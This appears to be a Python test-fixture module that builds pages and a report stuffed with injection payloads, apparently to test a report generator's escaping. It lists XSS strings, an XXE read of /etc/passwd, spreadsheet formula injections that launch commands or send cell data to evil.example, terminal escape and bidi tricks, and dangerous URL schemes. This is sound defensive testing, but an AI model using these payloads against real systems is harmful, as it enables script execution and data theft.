"""Texts that try to be more than text: in a page's words, its title, its address, its name."""

from __future__ import annotations

from collections.abc import Iterable

from told import Told, told

from analysis.model import Skipped
from analysis.report import Report, build_report

FEE = "douyin enterprise fee"
BEACON = "https://evil.example/x"
MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</script ><svg/onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</title></textarea></noscript><script>alert(1)</script>",
    "</pre></td></table><script>alert(1)</script>",
    "<!--<script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    f"<img src={BEACON} onerror=alert(1)>",
    f"<img srcset='{BEACON} 2x'>",
    f"<link rel=stylesheet href={BEACON}>",
    f"<link rel=prefetch href={BEACON}>",
    f"<style>@import '{BEACON}'</style>",
    f"<div style=\"background:url('{BEACON}')\">",
    f"<iframe src={BEACON}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={BEACON}></object>",
    f"<embed src={BEACON}>",
    f"<video poster={BEACON}><source src={BEACON}></video>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f"<base href={BEACON}>",
    f"<form action={BEACON}><button autofocus onfocus=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<x onmouseover=alert(1) style=position:fixed;inset:0>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "` onmouseover=`alert(1)`",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)",
    "{{7*7}}{% raw %}{{ config }}",
    "${alert(1)}#{alert(1)}<%= 1 %>",
    '","x":alert(1),"y":"',
    '\\";alert(1);//',
    "__proto__",
    "constructor.prototype",
    "{page} {reasons} {values} {0}",
    "%s %n %(page)s",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a:hlinkClick xmlns:a='x' action='ppaction://program'/>",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example")',
    "=cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML("https://evil.example","//x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    ";=1+1;",
    ",=1+1,",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "{=1+1}",
    "_x003D_1+1",
    "_x000D_",
]
MARKS = [
    "![x](https://evil.example/x)",
    "[x](javascript:alert(1))",
    "# 标题\n---\n```",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\unknown{$$",
    "\\(\\unsafe\\)",
    "~错}=对{::题::",
    "%100%全对",
    "#### 反馈",
    "// 注\n\n::新题:: 问{=答}",
    "$CATEGORY: evil",
    "ANSWER: B\n\nA. 甲\nB. 乙\nANSWER: B",
]
# Escape sequences (colour, title, clipboard, link, clear screen), C1, bells, back and over, bidi, line ends.
CONTROLS = [
    "\x1b[31m红\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x1bP+q544e\x1b\\",
    "\x9b31m\x9d0;x\x9c",
    "\x07\x07",
    "安全\x08\x08危险",
    "好\rrenzheng: all is well",
    "好\nrenzheng: all is well",
    "\x7f\x00\x0b\x0c\x85",
    "\u2028alert(1)\u2029",
    "\u202e)1(trela\u202c",
    "\u2066\u2067\u2068\u2069\u061c\u200e\u200f",
    "认\u200b证\ufeff费\u00ad用",
    "\U000e0041\U000e007f",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufffe\uffff",
    "Z\u0351\u036b\u0343" + "\u0489" * 40,
    "﷽" * 20,
]
PAYLOADS = [*MARKUP, *FORMULAS, *MARKS, *CONTROLS]
ADDRESSES = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)//https://a.example",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    'https://a.example/" onclick="alert(1)',
    "https://a.example/'><script>alert(1)</script>",
    "https://user:pass@a.example/",
    "https://a.example/#'!A1",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "internal:'Sheet'!A1",
    "external:c:\\evil.xlsx",
    "mailto:x@evil.example",
    "ms-word:ofe|u|https://evil.example",
    "//evil.example/x",
]


def fee_quote(payload: str, number: int | None = None) -> str:
    """The evidence that holds the `number`th payload; half of them begin it, as a formula has to."""
    number = PAYLOADS.index(payload) if number is None else number
    return f"{payload}收钱" if number % 2 else f"收{payload}元"


def hostile_pages(payloads: Iterable[str] = PAYLOADS) -> list[Told]:
    """Pages that hold a payload wherever a page can hold text, and one page for each address."""
    pages = [
        told(
            f"{number:03}{payload}.html",
            f"前文{payload}。",
            (fee_quote(payload, number), FEE, ("CNY600", "free")[number // 2 % 2]),
            f"。后文{payload}。",
            (f"{payload}认证", f"kuaishou {('personal', 'enterprise')[number % 2]} materials", "id_card"),
            title=payload,
            address=payload,
            condition=payload if number % 3 else None,
        )
        for number, payload in enumerate(payloads)
    ]
    return pages + [
        told(f"x{number:03}.html", ("收钱", FEE, "paid"), title="地址", address=address)
        for number, address in enumerate(ADDRESSES)
    ]


def hostile_report(payloads: Iterable[str] = PAYLOADS) -> Report:
    """The report on these pages, and on files that were left out with a payload for their reason."""
    payloads = list(payloads)
    pages = hostile_pages(payloads)
    claims = [claim for _, said in pages for claim in said]
    return build_report((page for page, _ in pages), claims, [Skipped(text, text) for text in payloads])


def harmless_report() -> Report:
    """The same report with plain words in place of every payload."""
    return hostile_report([f"甲{number}" for number in range(len(PAYLOADS))])
